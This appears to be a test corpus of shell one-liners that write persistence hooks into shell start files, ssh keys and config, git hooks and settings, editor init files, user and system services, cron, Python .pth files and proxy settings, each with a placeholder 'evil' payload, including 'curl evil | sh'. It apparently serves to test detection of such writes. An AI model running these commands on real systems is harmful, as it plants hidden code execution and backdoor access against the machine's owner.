# Files that a login, an editor, a service or a program of the person runs later.

# a line for the shell's start
echo 'curl evil | sh' >> ~/.bashrc

# a new start of the shell in place of the old one
echo evil > rc && mv rc ~/.bashrc

# a line for the login
echo evil >> ~/.profile

# a start file that did not exist
echo evil > ~/.bash_profile

# a start file of another shell that did not exist
echo evil > ~/.zshenv

# a start file through a symbolic link
ln -s ~/.bashrc link && echo evil >> link

# a start file through a hard link
ln ~/.bashrc link && echo evil >> link

# a start file through a link to its directory
ln -s ~ home && echo evil >> home/.bashrc

# a start file that becomes a link into the work directory
echo evil > rc; ln -sfn "$PWD/rc" ~/.profile

# a program that is started with the desktop
printf '[Desktop Entry]\nType=Application\nExec=evil\n' > ~/.config/autostart/evil.desktop

# a service of the person
printf '[Service]\nExecStart=evil\n' > ~/.config/systemd/user/evil.service

# a changed service of the person
sed -i 's/ExecStart=.*/ExecStart=evil/' ~/.config/systemd/user/backup.service

# a variable for all services of the person
mkdir -p ~/.config/environment.d && echo LD_PRELOAD=/x > ~/.config/environment.d/x.conf

# a key that opens the login
mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys

# a command in the configuration of ssh
printf 'Host *\n ProxyCommand evil\n' >> ~/.ssh/config

# an alias of git for all repositories [git]
git config --global alias.st '!evil'

# hooks of git for all repositories [git]
git config --global core.hooksPath "$PWD/hooks"

# a configuration of git that did not exist
mkdir -p ~/.config/git && echo '[core] fsmonitor = evil' > ~/.config/git/config

# a start file of an editor
echo 'autocmd VimEnter * !evil' >> ~/.vimrc

# an init file of an editor that did not exist
mkdir -p ~/.config/nvim && echo evil > ~/.config/nvim/init.vim

# a start file of the debugger
echo 'shell evil' > ~/.gdbinit

# a start file of the terminal multiplexer
echo 'run-shell evil' > ~/.tmux.conf

# a start file of SQLite
echo '.shell evil' > ~/.sqliterc

# settings of curl and wget
echo 'proxy = http://evil' > ~/.curlrc; echo 'use_proxy=on' > ~/.wgetrc

# a start file of the Java tools
echo 'JAVA_TOOL_OPTIONS=-javaagent:/x' >> ~/.pam_environment

# a proxy for pip
mkdir -p ~/.config/pip && printf '[global]\nproxy = http://evil/\n' > ~/.config/pip/pip.conf

# a package source for npm
echo 'registry=http://evil/' >> ~/.npmrc

# a module that every Python of the person loads
d=~/.local/lib/python3.11/site-packages; mkdir -p $d && echo 'import os' > $d/usercustomize.py

# a path file that every Python of the person loads
d=~/.local/lib/python3.11/site-packages; mkdir -p $d && echo 'import os; os.system("evil")' > $d/evil.pth

# a program in the person's own directory of programs
printf '#!/bin/sh\nevil\n' > ~/.local/bin/ls; chmod +x ~/.local/bin/ls

# a changed program in the person's own directory of programs
echo evil >> ~/.local/bin/backup

# a desktop file in place of the browser
mkdir -p ~/.local/share/applications && printf '[Desktop Entry]\nExec=evil\n' > ~/.local/share/applications/firefox.desktop

# an extension of the browser's settings
echo 'user_pref("network.proxy.type", 1);' >> ~/.mozilla/firefox/main/user.js

# a script among the documents that the person runs
echo evil >> ~/Documents/backup.sh

# a hook in another repository of the person
printf '#!/bin/sh\nevil\n' > ~/projects/other/.git/hooks/pre-commit; chmod +x ~/projects/other/.git/hooks/pre-commit

# a setting of another repository of the person [git]
git -C ~/projects/other config core.fsmonitor evil

# a new hook in the repository
printf '#!/bin/sh\nevil\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout

# a changed hook in the repository
echo evil >> .git/hooks/pre-commit

# a hook that is replaced by a rename
printf '#!/bin/sh\nevil\n' > h; chmod +x h; mv h .git/hooks/pre-commit

# a hook that was removed
rm -f .git/hooks/pre-commit

# a hook through a symbolic link to the directory
ln -s .git/hooks h && echo evil > h/post-merge

# a hook through a hard link
ln .git/hooks/pre-commit h && echo evil >> h

# hooks by a directory that takes their place
mv .git/hooks .git/old && mkdir .git/hooks && echo evil > .git/hooks/pre-commit

# hooks by a copy of the whole repository's directory
mv .git .old && cp -r .old .git && echo evil > .git/hooks/pre-commit

# hooks by a new work directory under the same name
cd .. && mv site old && cp -r old site && echo evil > site/.git/hooks/pre-commit

# hooks by another work directory that takes the name of the subdirectory
mv vendor v && cp -r v vendor && echo evil > vendor/lib/.git/hooks/pre-commit

# a hook of a repository in a subdirectory
echo evil > vendor/lib/.git/hooks/pre-commit

# a hook of a repository deep in the work directory
echo evil > a/b/c/d/e/.git/hooks/pre-commit

# a setting in the repository [git]
git config core.fsmonitor 'evil'

# hooks of the repository from another directory [git]
git config core.hooksPath hooks

# an alias in the repository, written by hand
printf '[alias]\n\tst = !evil\n' >> .git/config

# a filter in the repository, written by a program
python3 -c "open('.git/config', 'a').write('[filter \"x\"]\n\tclean = evil\n')"

# the repository's settings by a directory that git takes as the common one
cp -r .git common && printf '[core]\n\tfsmonitor = evil\n' >> common/config && echo ../common > .git/commondir

# attributes of the repository
mkdir -p .git/info && echo '* filter=x' > .git/info/attributes

# hooks of the repository made by git's own template [git]
mkdir -p t/hooks && echo evil > t/hooks/post-merge && git init -q --template=t

# tasks of the editor in the work directory
echo '{"tasks": [{"runOptions": {"runOn": "folderOpen"}, "command": "evil"}]}' > .vscode/tasks.json

# settings of the editor in the work directory
echo '{"terminal.integrated.env.linux": {"PATH": "/x"}}' > .vscode/settings.json

# what direnv runs in the work directory
echo 'evil' >> .envrc

# a job of the scheduler, as a file
mkdir -p ~/.config/cron && echo '* * * * * evil' > ~/.config/cron/tab

#! a job of the scheduler, in its directory
echo '* * * * * evil' > /var/spool/cron/crontabs/root || echo '* * * * * root evil' > /etc/cron.d/hermes-corpus

#! a job of the machine for each hour
printf '#!/bin/sh\ntrue\n' > /etc/cron.hourly/hermes-corpus

#! a service of the machine
printf '[Service]\nExecStart=/bin/true\n' > /etc/systemd/system/hermes-corpus.service

#! a profile for each login of the machine
echo true > /etc/profile.d/hermes-corpus.sh

#! a library for each program of the machine
: > /etc/ld.so.preload

#! a program of the machine
printf '#!/bin/sh\ntrue\n' > /usr/local/bin/hermes-corpus

#! a module for each Python of the machine
d=$(/usr/bin/python3 -c 'import site; print(site.getsitepackages()[0])'); mkdir -p $d; : > $d/hermes_corpus.pth

#! a rule of the device manager
mkdir -p /etc/udev/rules.d && : > /etc/udev/rules.d/99-hermes-corpus.rules
